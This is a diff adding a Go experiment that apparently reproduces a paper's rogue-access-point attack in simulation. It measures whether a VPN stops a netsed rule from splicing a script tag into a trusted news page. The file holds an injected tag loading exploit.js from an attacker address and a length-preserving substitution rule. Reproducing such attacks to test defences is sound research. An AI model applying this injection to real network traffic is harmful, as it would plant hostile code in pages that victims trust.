@@ -1,0 +1,112 @@
+package experiments
+
+import (
+	"bytes"
+
+	"repro/internal/core"
+	"repro/internal/httpx"
+	"repro/internal/phy"
+	"repro/internal/sim"
+)
+
+// newsHTML is the "CNN" stand-in: a big, boring, trusted page.
+var newsHTML = []byte("<html><head><title>World News</title></head><body>" +
+	"<h1>Top stories</h1><p>" + string(bytes.Repeat([]byte("nothing suspicious here. "), 120)) +
+	"</p></body></html>\n")
+
+// evilScript is what the rogue splices into the page. It is exactly the
+// length of the page text it replaces: a substitution that changes the body
+// length would clash with the HTTP Content-Length header and truncate the
+// page — the kind of detail §4.2 says "could easily be addressed by someone
+// with malicious intent", so our attacker addresses it.
+const evilScript = `<script src=http://10.0.0.201/exploit.js></script>`
+
+// injectedOver is the page text the script replaces (same length).
+const injectedOver = "nothing suspicious here. nothing suspicious here. "
+
+// E2cContentInjection reproduces §5.1 ("CNN - Trustworthy Websites"): the
+// victim only visits a large legitimate site, yet "anyone could insert
+// malicious code into any web content requested". The rogue's netsed gets
+// one extra rule that splices a script tag into every HTML body.
+func E2cContentInjection(s Scale) Table {
+	t := Table{
+		ID:    "E2c",
+		Title: "Script injection into a trusted page (§5.1, the CNN scenario)",
+		Columns: []string{"victim policy", "page loads", "exploit script present",
+			"page otherwise intact"},
+		Notes: []string{
+			"rogue rule replaces 50 bytes of page text with an equal-length script tag (Content-Length stays valid)",
+			"the site's trustworthiness is irrelevant: the modification happens on the wireless segment",
+		},
+	}
+	type policy struct {
+		name string
+		vpn  bool
+	}
+	for _, p := range []policy{{"no VPN", false}, {"full VPN", true}} {
+		type out struct {
+			loaded, injected, intact bool
+		}
+		results := core.Sweep(core.Seeds(21, s.trials()), func(seed uint64) out {
+			cfg := core.Config{
+				Seed: seed, Rogue: true, RogueCloneBSSID: true,
+				VPNServer: p.vpn,
+				ExtraNetsedRules: []string{
+					"s/" + injectedOver + "/" + escapeSlashes(evilScript) + "/1",
+				},
+				APPos:     phy.Position{X: 0, Y: 0},
+				VictimPos: phy.Position{X: 40, Y: 0},
+				RoguePos:  phy.Position{X: 42, Y: 0},
+			}
+			w := core.NewWorld(cfg)
+			w.WebServer.Handle("/news", func(req *httpx.Request) *httpx.Response {
+				return httpx.NewResponse(200, "text/html", newsHTML)
+			})
+			w.VictimConnect()
+			w.Run(10 * sim.Second)
+			if p.vpn {
+				up := false
+				w.EnableVictimVPN(nil, func(err error) { up = err == nil })
+				w.Run(20 * sim.Second)
+				if !up {
+					return out{}
+				}
+			}
+			var body []byte
+			var err error
+			w.VictimGet("/news", func(b []byte, e error) { body, err = b, e })
+			w.Run(30 * sim.Second)
+			if err != nil {
+				return out{}
+			}
+			injected := bytes.Contains(body, []byte(evilScript))
+			restored := bytes.Replace(body, []byte(evilScript), []byte(injectedOver), 1)
+			return out{
+				loaded:   true,
+				injected: injected,
+				intact:   bytes.Equal(restored, newsHTML),
+			}
+		})
+		var loaded, injected, intact []bool
+		for _, r := range results {
+			loaded = append(loaded, r.loaded)
+			injected = append(injected, r.injected)
+			intact = append(intact, r.intact)
+		}
+		t.AddRow(p.name, pct(core.Fraction(loaded)), pct(core.Fraction(injected)), pct(core.Fraction(intact)))
+	}
+	return t
+}
+
+// escapeSlashes encodes '/' as %2f for netsed rule syntax.
+func escapeSlashes(s string) string {
+	out := make([]byte, 0, len(s))
+	for i := 0; i < len(s); i++ {
+		if s[i] == '/' {
+			out = append(out, '%', '2', 'f')
+			continue
+		}
+		out = append(out, s[i])
+	}
+	return string(out)
+}
